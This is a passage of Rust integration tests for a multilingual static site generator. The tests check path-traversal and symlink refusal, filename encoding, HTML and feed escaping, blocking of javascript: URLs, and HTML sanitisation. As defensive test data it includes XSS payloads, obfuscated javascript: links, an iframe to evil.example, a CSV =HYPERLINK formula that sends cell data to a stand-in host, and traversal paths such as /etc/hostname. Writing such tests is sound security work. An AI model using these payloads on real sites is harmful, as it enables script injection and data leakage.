        site.errors(),
        vec![
            format!("content/outputs/report/index.pt-BR.md: error: language suffix `pt-BR` is not one of the languages in site.yaml\n  help: {configured}; add `pt-BR` to `languages` in site.yaml or rename the file"),
            format!("content/topics/courts.EN.md: error: language suffix `EN` is not one of the languages in site.yaml\n  help: did you mean `en`? {configured}; add `EN` to `languages` in site.yaml or rename the file"),
            format!("content/topics/courts.de.md: error: language suffix `de` is not one of the languages in site.yaml\n  help: {configured}; add `de` to `languages` in site.yaml or rename the file"),
        ]
    );
}

#[test]
fn an_author_cannot_be_its_own_affiliation() {
    let site = portal();
    site.write(
        "content/authors/dastak.md",
        "---\nname: Dastak\nkind: organisation\naffiliation: dastak\n---\n",
    );
    assert_eq!(
        site.errors(),
        vec!["content/authors/dastak.md:4:14: error: `dastak` cannot be its own affiliation\n  help: name the organisation this author belongs to, or remove the field"]
    );
}

// ---------------------------------------------------------------------------------------------
// Files: paths that leave the folder, links, names that need encoding
// ---------------------------------------------------------------------------------------------

#[test]
fn a_files_path_with_dot_dot_is_refused_even_when_the_target_exists() {
    let site = output_with(&format!(
        "{BASE}files:\n  - {{ path: ../../authors/dastak.md }}\n  - {{ path: sub/../../report/summary.pdf }}\n  - {{ path: ./../x.pdf }}\n"
    ));
    let help =
        "  help: list a file that sits in the same folder as index.md, e.g. `path: report.pdf`";
    assert_eq!(
        site.errors(),
        vec![
            format!("{REPORT}:6:13: error: file path `../../authors/dastak.md` points outside the output's folder\n{help}"),
            format!("{REPORT}:7:13: error: file path `sub/../../report/summary.pdf` points outside the output's folder\n{help}"),
            format!("{REPORT}:8:13: error: file path `./../x.pdf` points outside the output's folder\n{help}"),
        ]
    );
}

#[test]
fn an_error_about_a_files_path_points_at_its_own_line() {
    let site = output_with(&format!(
        "{BASE}files:\n  - {{ path: ../x.pdf }}\n  - {{ path: .. }}\n"
    ));
    let help =
        "  help: list a file that sits in the same folder as index.md, e.g. `path: report.pdf`";
    assert_eq!(
        site.errors(),
        vec![
            format!("{REPORT}:6:13: error: file path `../x.pdf` points outside the output's folder\n{help}"),
            format!("{REPORT}:7:13: error: file path `..` points outside the output's folder\n{help}"),
        ]
    );
}

#[test]
fn an_absolute_files_path_is_refused() {
    let site = portal();
    let inside = site.root().join("content/outputs/report/summary.pdf");
    let inside = inside.to_str().unwrap();
    site.write(
        REPORT,
        &format!("---\n{BASE}files:\n  - {{ path: /etc/hostname }}\n  - path: {inside}\n---\n"),
    );
    let help =
        "  help: list a file that sits in the same folder as index.md, e.g. `path: report.pdf`";
    assert_eq!(
        site.errors(),
        vec![
            format!("{REPORT}:6:13: error: file path `/etc/hostname` points outside the output's folder\n{help}"),
            format!("{REPORT}:7:11: error: file path `{inside}` points outside the output's folder\n{help}"),
        ]
    );
}

#[cfg(unix)]
#[test]
fn symlinks_pointing_outside_the_portal_are_refused() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.txt"), "secret").unwrap();
    let site = output_with(&format!(
        "{BASE}files:\n  - {{ path: secret.pdf }}\n  - {{ path: docs/secret.txt }}\n"
    ));
    let folder = site.root().join("content/outputs/report");
    std::os::unix::fs::symlink(outside.path().join("secret.txt"), folder.join("secret.pdf"))
        .unwrap();
    std::os::unix::fs::symlink(outside.path(), folder.join("docs")).unwrap();
    assert_eq!(
        site.errors(),
        vec![
            format!("{REPORT}:6:13: error: file `secret.pdf` is a link to a place outside the output's folder"),
            format!("{REPORT}:7:13: error: file `docs/secret.txt` is a link to a place outside the output's folder"),
        ]
    );
}

#[cfg(unix)]
#[test]
fn a_symlinked_folder_outside_the_portal_is_not_published() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.txt"), "top secret").unwrap();
    std::fs::write(
        outside.path().join("index.md"),
        "---\ntitle: Leaked\ntype: report\ndate: 2021\n---\n",
    )
    .unwrap();
    let site = portal();
    std::os::unix::fs::symlink(
        outside.path(),
        site.root().join("content/outputs/report/docs"),
    )
    .unwrap();
    std::os::unix::fs::symlink(outside.path(), site.root().join("content/outputs/leak")).unwrap();

    let built = site.built();
    for (name, bytes) in snapshot(&built.out) {
        assert!(
            !name.contains("secret") && !name.contains("leak"),
            "{name} published"
        );
        assert!(
            !bytes.windows(10).any(|w| w == b"top secret"),
            "{name} holds the secret"
        );
    }
}

#[cfg(unix)]
#[test]
fn symlink_loops_in_content_are_ignored_without_hanging() {
    let site = portal();
    let content = site.root().join("content");
    std::os::unix::fs::symlink("..", content.join("outputs/loop")).unwrap();
    std::os::unix::fs::symlink(".", content.join("topics/self")).unwrap();
    std::os::unix::fs::symlink("../../..", content.join("outputs/report/up")).unwrap();
    std::fs::create_dir_all(content.join("pages")).unwrap();
    std::os::unix::fs::symlink("b", content.join("pages/a")).unwrap();
    std::os::unix::fs::symlink("a", content.join("pages/b")).unwrap();
    let built = site.built();
    let files = built.files();
    assert!(
        files
            .iter()
            .all(|f| !f.contains("loop") && !f.contains("self") && !f.contains("/up/")),
        "{files:?}"
    );
    assert!(built.exists("en/outputs/report/index.html"));
    assert!(built.exists("files/outputs/report/summary.pdf"));
}

#[test]
fn an_attached_file_named_with_spaces_and_urdu_has_a_percent_encoded_link() {
    let site = portal();
    let name = "رپورٹ final v2 (اردو).pdf";
    site.write(
        REPORT,
        &format!(
            "---\n{BASE}files:\n  - {{ path: {}, title: Report, language: ur }}\n---\n",
            yq(name)
        ),
    );
    site.write_bytes(
        &format!("content/outputs/report/{name}"),
        b"%PDF-1.7 urdu\n",
    );
    let built = site.built();
    for lang in ["en", "fr", "ur"] {
        let page = format!("{lang}/outputs/report/index.html");
        let links = downloads(&built, &page);
        assert_eq!(links.len(), 1, "{links:?}");
        let (href, file) = &links[0];
        assert_eq!(
            href,
            "../../../files/outputs/report/%D8%B1%D9%BE%D9%88%D8%B1%D9%B9%20final%20v2%20(%D8%A7%D8%B1%D8%AF%D9%88).pdf"
        );
        assert_eq!(file, &format!("files/outputs/report/{name}"));
        assert_eq!(
            std::fs::read(built.out.join(file)).unwrap(),
            b"%PDF-1.7 urdu\n"
        );
        assert_eq!(built.html(&page).attr(".downloads a", "download"), name);
    }
}

#[test]
fn an_attached_file_named_with_url_and_html_syntax_resolves() {
    let site = portal();
    let name = "a \"b\" 'c' <d> & e #1 ?x=1 %41 [f].pdf";
    site.write(
        REPORT,
        &format!("---\n{BASE}files:\n  - {{ path: {} }}\n---\n", yq(name)),
    );
    site.write(&format!("content/outputs/report/{name}"), "%PDF\n");
    let built = site.built();
    let page = "en/outputs/report/index.html";
    let links = downloads(&built, page);
    assert_eq!(links.len(), 1, "{links:?}");
    let (href, file) = &links[0];
    assert!(
        !href.contains([' ', '"', '\'', '<', '>', '#', '?', '[']),
        "{href}"
    );
    assert_eq!(file, &format!("files/outputs/report/{name}"));
    assert!(built.exists(file), "{file} in {:?}", built.files());
    let doc = built.html(page);
    assert_eq!(doc.attr(".downloads a", "download"), name);
    assert_eq!(raw_text(&doc, ".downloads a span"), name);
}

/// An attached file must be published wherever the page links to it, or the build must say why
/// it is not: a download link that leads nowhere loses the file for the reader.
fn assert_download_published_or_refused(site: &TestSite, name: &str) {
    match site.build() {
        Ok(built) => {
            for (href, file) in downloads(&built, "en/outputs/report/index.html") {
                assert!(
                    built.exists(&file),
                    "the page links to {href} but {file} was not published: {:?}",
                    built.files()
                );
            }
        }
        Err(f) => {
            let text = common::text(&f.errors);
            assert!(text.contains(name), "{text}");
        }
    }
}

#[cfg(unix)]
#[test]
fn an_attached_symlink_inside_the_folder_is_published() {
    let site = output_with(&format!("{BASE}files:\n  - {{ path: latest.pdf }}\n"));
    std::os::unix::fs::symlink(
        "summary.pdf",
        site.root().join("content/outputs/report/latest.pdf"),
    )
    .unwrap();
    assert_download_published_or_refused(&site, "latest.pdf");
}

#[test]
fn an_attached_hidden_file_is_published_or_refused() {
    let site = output_with(&format!("{BASE}files:\n  - {{ path: .notes.pdf }}\n"));
    site.write("content/outputs/report/.notes.pdf", "%PDF\n");
    assert_download_published_or_refused(&site, ".notes.pdf");
}

#[test]
fn an_attached_markdown_file_is_published_or_refused() {
    let site = output_with(&format!("{BASE}files:\n  - {{ path: notes.md }}\n"));
    site.write("content/outputs/report/notes.md", "Field notes.\n");
    assert_download_published_or_refused(&site, "notes.md");
}

// ---------------------------------------------------------------------------------------------
// Injection: text stays text, in HTML, attributes, the sitemap and the feeds
// ---------------------------------------------------------------------------------------------

/// Markup, quotes, ampersands, a script end tag, a template expression and U+2028.
const HOSTILE: &str =
    "<script>alert(1)</script> \"q\" 'a' & b </script> {{ 7*7 }} {% raw %} \u{2028} end";

/// A portal whose every text field (site title, output title and abstract, author names, topic
/// and project titles, page title) carries `text`.
fn text_portal(text: &str) -> TestSite {
    let site = TestSite::new(&format!(
        "title: {}\nbase_url: https://example.org/portal\ndefault_language: en\nlanguages:\n  - {{ code: en, name: English }}\n  - {{ code: fr, name: Français }}\n  - {{ code: ur, name: اردو, direction: rtl }}\n",
        yq(&format!("Site {text}"))
    ));
    site.write(
        "content/authors/dastak.md",
        &format!(
            "---\nname: {}\nkind: organisation\n---\nAn NGO.\n",
            yq(&format!("Org {text}"))
        ),
    );
    site.write(
        "content/authors/fawad.md",
        &format!(
            "---\nname: {}\naffiliation: dastak\n---\nA researcher.\n",
            yq(&format!("Person {text}"))
        ),
    );
    site.write(
        "content/topics/courts.md",
        &format!(
            "---\ntitle: {}\n---\nCourts.\n",
            yq(&format!("Topic {text}"))
        ),
    );
    site.write(
        "content/projects/justice/index.md",
        &format!("---\ntitle: {}\nstatus: active\nprograms: [{}]\nregions: [{}]\nofficer: {}\n---\nA project.\n", yq(&format!("Project {text}")), yq(&format!("Programme {text}")), yq(&format!("Region {text}")), yq(&format!("Officer {text}"))),
    );
    site.write(
        REPORT,
        &format!(
            "---\ntitle: {}\ntype: report\ndate: 2021-06-30\nauthors: [fawad, dastak]\ntopics: [courts]\nproject: justice\nabstract: {}\nlicense: {}\n---\nThe body.\n",
            yq(text),
            yq(&format!("Abstract {text}")),
            yq(&format!("License {text}")),
        ),
    );
    site.write(
        "content/pages/about.md",
        &format!(
            "---\ntitle: {}\nmenu_weight: 1\n---\nAbout.\n",
            yq(&format!("Page {text}"))
        ),
    );
    site
}

/// No script element but the theme's, and exactly as many as in the same portal with plain text.
fn assert_no_injected_script(hostile: &Built, plain: &Built) {
    assert_eq!(script_counts(hostile), script_counts(plain));
    for f in html_files(hostile) {
        if let Err(e) = theme_scripts_only(&hostile.html(&f)) {
            panic!("{e}");
        }
    }
}

#[test]
fn hostile_text_is_escaped_in_html_text_and_attributes() {
    let site = text_portal(HOSTILE);
    let built = site.built();
    let plain_site = text_portal("Plain text");
    let plain = plain_site.built();
    assert_no_injected_script(&built, &plain);
    let t = |prefix: &str| format!("{prefix} {HOSTILE}");
    let site_title = t("Site");
    for lang in ["en", "fr", "ur"] {
        let page = built.html(&format!("{lang}/outputs/report/index.html"));
        assert_eq!(raw_text(&page, "h1"), HOSTILE);
        assert_eq!(
            raw_text(&page, "title"),
            format!("{HOSTILE} · {site_title}")
        );
        assert_eq!(raw_text(&page, "a.brand"), site_title);
        assert_eq!(
            raw_text(&page, ".breadcrumbs [aria-current=page] bdi"),
            HOSTILE
        );
        assert_eq!(
            raw_texts(&page, ".facts .authors a"),
            vec![t("Person"), t("Org")]
        );
        assert_eq!(raw_text(&page, ".facts .topics a"), t("Topic"));
        assert_eq!(raw_text(&page, ".abstract p"), t("Abstract"));
        assert_eq!(raw_text(&page, ".facts dd[dir=ltr]"), t("License"));
        assert_eq!(
            page.attr("meta[name=description]", "content"),
            unicode_collapse(&t("Abstract"))
        );
        let menu = raw_texts(&page, ".main-nav a");
        assert_eq!(menu.last(), Some(&t("Page")), "{menu:?}");
        // Harvester tags, the citations (HTML the code writes itself) and the JSON-LD.
        assert_eq!(page.attr("meta[name=citation_title]", "content"), HOSTILE);
        assert_eq!(page.attr("meta[property=\"og:title\"]", "content"), HOSTILE);
        assert_eq!(raw_text(&page, ".cite-apa i"), HOSTILE);
        assert_eq!(raw_text(&page, ".cite-chicago i"), HOSTILE);
        let json = jsonld_strings(&page);
        for s in [HOSTILE.to_owned(), t("Person"), t("Org"), t("Topic")] {
            assert!(json.contains(&s), "{s:?} not in the JSON-LD {json:?}");
        }

        let list = built.html(&format!("{lang}/outputs/index.html"));
        assert_eq!(raw_text(&list, ".output-card h3 a"), HOSTILE);
        assert_eq!(raw_text(&list, ".output-card .summary"), t("Abstract"));
        assert_eq!(
            raw_texts(&list, ".output-card .authors bdi"),
            vec![t("Person"), t("Org")]
        );

        let author = built.html(&format!("{lang}/authors/fawad/index.html"));
        assert_eq!(raw_text(&author, "h1"), t("Person"));
        assert_eq!(raw_text(&author, ".facts a"), t("Org"));
        let org = built.html(&format!("{lang}/authors/dastak/index.html"));
        assert_eq!(raw_texts(&org, ".index-list a"), vec![t("Person")]);

        let project = built.html(&format!("{lang}/projects/justice/index.html"));
        assert_eq!(raw_text(&project, "h1"), t("Project"));
        let project_text = raw_text(&project, "main");
        for field in ["Programme", "Region", "Officer"] {
            assert!(project_text.contains(&t(field)), "{field}: {project_text}");
        }

        let topic = built.html(&format!("{lang}/topics/courts/index.html"));
        assert_eq!(raw_text(&topic, "h1"), t("Topic"));
        let home = built.html(&format!("{lang}/index.html"));
        assert_eq!(
            home.attr("link[type=\"application/atom+xml\"]", "title"),
            site_title
        );
    }
    let chooser = built.html("index.html");
    assert_eq!(raw_texts(&chooser, "h1 span"), vec![site_title.clone(); 3]);
    assert_eq!(
        raw_text(&chooser, "title"),
        [site_title.as_str(); 3].join(" · ")
    );
    let not_found = built.html("404.html");
    assert_eq!(raw_text(&not_found, "title"), format!("404 · {site_title}"));
}

#[test]
fn hostile_text_round_trips_through_the_atom_feeds() {
    let site = text_portal(HOSTILE);
    let built = site.built();
    let atom = "http://www.w3.org/2005/Atom";
    let t = |prefix: &str| format!("{prefix} {HOSTILE}");
    for lang in ["en", "fr", "ur"] {
        for (path, title) in [
            (format!("{lang}/atom.xml"), None),
            (format!("{lang}/topics/courts/atom.xml"), Some(t("Topic"))),
        ] {
            let xml = built.read(&path);
            let doc = roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("{path}: {e}"));
            let feed = doc.root_element();
            let child = |n: roxmltree::Node, name: &str| -> String {
                n.children()
                    .find(|c| c.has_tag_name((atom, name)))
                    .and_then(|c| c.text())
                    .unwrap_or_default()
                    .to_owned()
            };
            let feed_title = child(feed, "title");
            match &title {
                Some(topic) => assert_eq!(feed_title, format!("{} · {topic}", t("Site"))),
                None => assert!(
                    feed_title.starts_with(&format!("{} · ", t("Site"))),
                    "{feed_title}"
                ),
            }
            let entry = feed
                .children()
                .find(|c| c.has_tag_name((atom, "entry")))
                .expect("one entry");
            assert_eq!(child(entry, "title"), HOSTILE);
            assert_eq!(child(entry, "summary"), t("Abstract"));
            let names: Vec<String> = entry
                .descendants()
                .filter(|n| n.has_tag_name((atom, "name")))
                .filter_map(|n| n.text().map(str::to_owned))
                .collect();
            assert_eq!(names, vec![t("Person"), t("Org")]);
            let category = entry
                .children()
                .find(|c| c.has_tag_name((atom, "category")))
                .unwrap();
            assert_eq!(category.attribute("label"), Some(t("Topic").as_str()));
        }
    }
}

#[test]
fn hostile_text_round_trips_through_the_catalogue_oai_csv_and_citations() {
    let site = text_portal(HOSTILE);
    let built = site.built();
    let t = |prefix: &str| format!("{prefix} {HOSTILE}");

    let catalog: serde_json::Value =
        serde_json::from_str(&built.read("catalog.json")).expect("catalog.json is JSON");
    let mut strings = Vec::new();
    json_strings(&catalog, &mut strings);
    for s in [
        HOSTILE.to_owned(),
        t("Person"),
        t("Org"),
        t("Topic"),
        t("Project"),
    ] {
        assert!(strings.contains(&s), "{s:?} not in catalog.json");
    }

    let xml = built.read("oai.xml");
    let doc = roxmltree::Document::parse(&xml).expect("oai.xml is XML");
    let titles: Vec<&str> = doc
        .descendants()
        .filter(|n| n.has_tag_name(("http://purl.org/dc/elements/1.1/", "title")))
        .filter_map(|n| n.text())
        .collect();
    // One record, with the one language the output is written in.
    assert_eq!(titles, vec![HOSTILE]);
    let name = doc
        .descendants()
        .find(|n| n.has_tag_name(("http://www.openarchives.org/OAI/2.0/", "repositoryName")))
        .and_then(|n| n.text());
    assert_eq!(name, Some(t("Site").as_str()));

    let csv = built.read("outputs.csv");
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let header = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 1);
    let cell = |name: &str| {
        let i = header.iter().position(|h| h == name).unwrap();
        rows[0][i].to_owned()
    };
    assert_eq!(cell("title_en"), HOSTILE);
    assert_eq!(cell("authors"), format!("{}; {}", t("Person"), t("Org")));

    for lang in ["en", "fr", "ur"] {
        let folder = format!("{lang}/outputs/report");
        let csl: serde_json::Value =
            serde_json::from_str(&built.read(&format!("{folder}/citation.json"))).unwrap();
        assert_eq!(csl[0]["title"], HOSTILE);
        assert_eq!(csl[0]["abstract"], t("Abstract"));
        // RIS: one field per line, whatever the text holds.
        let ris = built.read(&format!("{folder}/citation.ris"));
        for line in ris.split("\r\n").filter(|l| !l.is_empty()) {
            let tag = &line[..line.len().min(6)];
            assert!(
                tag.len() == 6
                    && tag[..2]
                        .chars()
                        .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit())
                    && &tag[2..] == "  - ",
                "{folder}/citation.ris: broken line {line:?}"
            );
        }
        assert_eq!(
            ris.split("\r\n")
                .filter(|l| l.starts_with("TI  - "))
                .count(),
            1
        );
        // BibTeX: the braces of the values stay balanced.
        let bib = built.read(&format!("{folder}/citation.bib"));
        let mut depth = 0i32;
        let mut escaped = false;
        for c in bib.chars() {
            match (escaped, c) {
                (false, '\\') => escaped = true,
                (false, '{') => depth += 1,
                (false, '}') => {
                    depth -= 1;
                    assert!(depth >= 0, "{folder}/citation.bib: unbalanced\n{bib}");
                }
                _ => escaped = false,
            }
        }
        assert_eq!(depth, 0, "{folder}/citation.bib: unbalanced\n{bib}");
        assert!(bib.contains("\\{\\{ 7*7 \\}\\}"), "{bib}");
    }
}

#[test]
fn control_characters_in_text_keep_every_xml_file_well_formed() {
    let site = output_with(&format!(
        "{BASE}abstract: \"Bell \\a, escape \\e[31m, null \\0, form feed \\f.\"\n"
    ));
    site.write(
        "content/topics/courts.md",
        "---\ntitle: \"Courts \\x01\\x02\"\n---\n",
    );
    match site.build() {
        Ok(built) => {
            for f in built.files().into_iter().filter(|f| f.ends_with(".xml")) {
                let xml = built.read(&f);
                if let Err(e) = roxmltree::Document::parse(&xml) {
                    panic!("{f} is not XML: {e}");
                }
            }
        }
        Err(f) => {
            let text = common::text(&f.errors);
            assert!(
                text.contains(REPORT) && text.contains("content/topics/courts.md"),
                "{text}"
            );
        }
    }
}

#[test]
fn a_title_that_looks_like_a_formula_is_inert_in_the_spreadsheet() {
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
    let site = output_with(&format!(
        "title: {}\ntype: report\ndate: 2021-06-30\n",
        yq(formula)
    ));
    let built = site.built();
    let csv = built.read("outputs.csv");
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let header = reader.headers().unwrap().clone();
    let i = header.iter().position(|h| h == "title_en").unwrap();
    let row = reader.records().next().unwrap().unwrap();
    // A spreadsheet treats a cell starting with `=`, `+`, `-`, `@`, tab or CR as a formula.
    assert!(
        !row[i].starts_with(['=', '+', '-', '@', '\t', '\r']),
        "{:?}",
        &row[i]
    );
    assert!(row[i].contains(formula), "{:?}", &row[i]);
}

#[test]
fn hostile_slugs_round_trip_through_the_sitemap_and_links() {
    let site = portal();
    let slug = "a&b'c\"d<e> f";
    site.write(
        &format!("content/outputs/{slug}/index.md"),
        &format!("---\n{BASE}topics: [{}]\n---\n", yq("t&'\"<>")),
    );
    site.write("content/topics/t&'\"<>.md", "---\ntitle: T\n---\n");
    let built = site.built();
    let xml = built.read("sitemap.xml");
    let doc = roxmltree::Document::parse(&xml).expect("the sitemap is XML");
    let locs: Vec<&str> = doc
        .descendants()
        .filter(|n| n.has_tag_name("loc"))
        .filter_map(|n| n.text())
        .collect();
    for lang in ["en", "fr", "ur"] {
        for loc in [
            format!("https://example.org/portal/{lang}/outputs/a&b%27c%22d%3Ce%3E%20f/"),
            format!("https://example.org/portal/{lang}/topics/t&%27%22%3C%3E/"),
        ] {
            assert!(locs.contains(&loc.as_str()), "{loc} not in {locs:?}");
            let path = loc.strip_prefix("https://example.org/portal/").unwrap();
            let (file, _) = resolve_link("index.html", path).unwrap();
            assert!(built.exists(&file), "{file}");
        }
        let list = format!("{lang}/outputs/index.html");
        let hrefs = built.html(&list).attrs(".output-card h3 a", "href");
        let files: Vec<String> = hrefs
            .iter()
            .map(|h| resolve_link(&list, h).unwrap().0)
            .collect();
        assert!(
            files.contains(&format!("{lang}/outputs/{slug}/index.html")),
            "{files:?}"
        );
        let card = built.html(&list);
        assert!(card
            .attrs(".output-card", "data-topics")
            .contains(&"t&'\"<>".to_owned()));
    }
    // Every alternate link of the sitemap is an address of the site.
    for n in doc.descendants().filter(|n| n.has_tag_name("link")) {
        let href = n.attribute("href").unwrap();
        let path = href.strip_prefix("https://example.org/portal/").unwrap();
        let (file, _) = resolve_link("index.html", path).unwrap();
        assert!(built.exists(&file), "{href}");
    }
}

#[test]
fn a_hostile_site_string_is_escaped_in_pages_and_feeds() {
    let text = "<script>alert(1)</script> \"q\" 'a' & b </script> \u{2028} end";
    let with = |s: &str| {
        let site = portal();
        site.write(
            "i18n/en/site.ftl",
            &format!("nav-outputs = {s}\nmain-navigation = {s}\nfilter-shown = {s}\n"),
        );
        let built = site.built();
        (site, built)
    };
    let (_hostile_site, built) = with(text);
    let (_plain_site, plain) = with("Plain");
    assert_no_injected_script(&built, &plain);
    for f in html_files(&built)
        .into_iter()
        .filter(|f| f.starts_with("en/"))
    {
        let page = built.html(&f);
        assert_eq!(raw_texts(&page, ".main-nav a")[1], text, "{f}");
        assert_eq!(page.attr("nav.main-nav", "aria-label"), text, "{f}");
    }
    let list = built.html("en/outputs/index.html");
    assert_eq!(raw_text(&list, "h1"), text);
    assert_eq!(list.attr(".filter-status", "data-template"), text);
    let xml = built.read("en/atom.xml");
    let doc = roxmltree::Document::parse(&xml).unwrap();
    let title = doc
        .root_element()
        .children()
        .find(|n| n.has_tag_name("title"))
        .and_then(|n| n.text())
        .unwrap();
    assert_eq!(title, format!("Test portal · {text}"));
}

#[test]
fn javascript_urls_in_markdown_never_reach_an_href() {
    let site = portal();
    site.write(
        REPORT,
        &format!(
            "---\n{BASE}---\n\
             [a](javascript:alert(1)) [b]( JavaScript:alert(2)) [c](&#106;avascript:alert(3))\n\
             [d](javascript&#58;alert(4)) [e](jav&#x09;ascript:alert(5)) [f](vbscript:msgbox(6))\n\
             [g](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==) <javascript:alert(8)>\n\
             [h][ref] [i](<javascript:alert(10)> \"title\") ![j](javascript:alert(11))\n\
             [k](JAVASCRIPT:alert(12)) [l](\\javascript:alert(13))\n\n\
             [ref]: javascript:alert(9)\n"
        ),
    );
    let built = site.built();
    assert_eq!(script_urls(&built), Vec::<String>::new());
    let page = built.html("en/outputs/report/index.html");
    let texts = page.texts(".body a");
    for t in ["a", "b", "c", "d", "e", "f", "g", "h", "i", "k"] {
        assert!(texts.contains(&t.to_owned()), "link {t} lost: {texts:?}");
    }
}

#[test]
fn a_javascript_url_as_author_homepage_never_reaches_an_href() {
    let site = portal();
    site.write(
        "content/authors/dastak.md",
        "---\nname: Dastak\nkind: organisation\nurl: \"javascript:alert(1)\"\n---\n",
    );
    match site.build() {
        Ok(built) => assert_eq!(script_urls(&built), Vec::<String>::new()),
        Err(f) => {
            assert_eq!(f.errors.len(), 1, "{}", common::text(&f.errors));
            assert_eq!(f.errors[0].path, Path::new("content/authors/dastak.md"));
            assert_eq!(f.errors[0].pos.map(|p| p.0), Some(4));
        }
    }
}

#[test]
fn a_javascript_url_as_output_address_never_reaches_an_href() {
    let site = output_with(&format!("{BASE}url: \" JavaScript:alert(2)\"\n"));
    match site.build() {
        Ok(built) => assert_eq!(script_urls(&built), Vec::<String>::new()),
        Err(f) => {
            assert_eq!(f.errors.len(), 1, "{}", common::text(&f.errors));
            assert_eq!(f.errors[0].path, Path::new(REPORT));
            assert_eq!(f.errors[0].pos.map(|p| p.0), Some(5));
        }
    }
}

const RAW_HTML_BODY: &str = "Before.\n\n<div class=\"note\" onclick=\"alert(1)\">Raw <b>bold</b> text</div>\n\n<script>alert(2)</script>\n\n<a href=\"javascript:alert(3)\" onmouseover=\"alert(4)\">link</a> <img src=\"chart.png\" onerror=\"alert(5)\" alt=\"Chart\">\n\n<iframe src=\"https://evil.example/\"></iframe><style>body { display: none }</style>\n\n<details><summary>More</summary>Hidden text</details>\n\n## Section\n\n```rust\nfn main() {}\n```\n\nAfter.\n";

#[test]
fn raw_html_in_a_body_is_kept_by_default() {
    let site = portal();
    site.write(REPORT, &format!("---\n{BASE}---\n{RAW_HTML_BODY}"));
    let built = site.built();
    let page = built.html("en/outputs/report/index.html");
    assert_eq!(page.attr(".body div.note", "onclick"), "alert(1)");
    assert_eq!(raw_texts(&page, ".body script"), vec!["alert(2)"]);
    assert_eq!(page.count(".body iframe"), 1);
    assert_eq!(page.count(".body style"), 1);
    assert_eq!(page.text(".body div.note"), "Raw bold text");
}

#[test]
fn raw_html_in_a_body_is_sanitised_with_safe_html() {
    let site = portal();
    site.write(
        "site.yaml",
        &format!("{}safe_html: true\n", common::TRILINGUAL),
    );
    site.write(REPORT, &format!("---\n{BASE}---\n{RAW_HTML_BODY}"));
    let built = site.built();
    for lang in ["en", "fr", "ur"] {
        let page = built.html(&format!("{lang}/outputs/report/index.html"));
        assert_eq!(page.count(".body script"), 0);
        assert_eq!(page.count(".body iframe"), 0);
        assert_eq!(page.count(".body style"), 0);
        // Event handlers go, the elements and their text stay.
        assert_eq!(page.text(".body div.note"), "Raw bold text");
        for e in page.doc.select(&sel(".body *")) {
            for (name, value) in e.value().attrs() {
                assert!(!name.starts_with("on"), "{name}={value} kept");
                assert!(!is_script_url(value), "{name}={value} kept");
            }
        }
        assert_eq!(page.text(".body a"), "link");
        assert_eq!(page.attr(".body img", "alt"), "Chart");
        // What Markdown makes stays: headings with ids, highlighted code, details.
        assert_eq!(page.attr(".body h2", "id"), "section");
        assert!(page.count(".body pre.code span") > 0);
        assert_eq!(page.text(".body details summary"), "More");
        let text = page.text(".body");
        assert!(
            text.starts_with("Before.") && text.ends_with("After."),
            "{text}"
        );
        assert!(
            !text.contains("alert(2)") && !text.contains("display"),
            "{text}"
        );
    }
    assert_eq!(script_urls(&built), Vec::<String>::new());
}

#[test]
fn a_level_one_heading_in_a_body_does_not_add_a_second_h1() {
    let site = portal();
    site.write(
        REPORT,
        &format!("---\n{BASE}---\n# Introduction\n\nText.\n\nSetext\n======\n"),
    );
    let built = site.built();
    let page = built.html("en/outputs/report/index.html");
    assert_eq!(page.texts("h1"), vec!["A report"]);
    assert_eq!(page.texts(".body h2"), vec!["Introduction", "Setext"]);
}

// ---------------------------------------------------------------------------------------------
// Nothing lost
// ---------------------------------------------------------------------------------------------

#[test]
fn a_build_failing_in_the_render_stage_keeps_the_previous_site() {
    let site = portal();
    let first = site.built();
    let before = snapshot(&first.out);
    assert!(!before.is_empty());
    // A template that parses but fails on every output page.
    site.write(
        "templates/output.html",
        "{% extends \"base.html\" %}{% block content %}{{ output.no_such_field.deeper }}{% endblock content %}",
    );
    site.write(
        REPORT,
        "---\ntitle: Changed\ntype: report\ndate: 2022\n---\n",
    );
    let failure = site.build().err().expect("the render stage fails");
    assert!(
        failure
            .errors
            .iter()
            .all(|e| e.path == Path::new("templates") && e.message.starts_with("template error:")),
        "{}",
        common::text(&failure.errors)
    );
    assert!(
        failure.errors[0].help.as_deref().is_some_and(
            |h| h.starts_with("while rendering ") && h.contains("outputs/report/index.html")
        ),
        "{:?}",
        failure.errors[0]
    );
    assert_same_site(&before, &snapshot(&site.output()), "after a failed render");
    // No staging folder is left behind.
    let leftovers: Vec<String> = std::fs::read_dir(site.root())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("nashr"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

// ---------------------------------------------------------------------------------------------
// Determinism
// ---------------------------------------------------------------------------------------------

/// A deterministic pseudo-random generator (SplitMix64): the same seed gives the same portal.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn chance(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

/// Many items in four languages (two right-to-left), partly translated, several per list page.
fn many_items_portal(rng: &mut Rng) -> TestSite {
    let site = TestSite::new("title: { en: Many, fr: Beaucoup, ur: بہت, ar: كثير }\nbase_url: https://example.org/many\ndefault_language: en\nlanguages:\n  - { code: en, name: English }\n  - { code: fr, name: Français }\n  - { code: ur, name: اردو, direction: rtl }\n  - { code: ar, name: العربية, direction: rtl }\npaginate_by: 4\n");
    let first = [
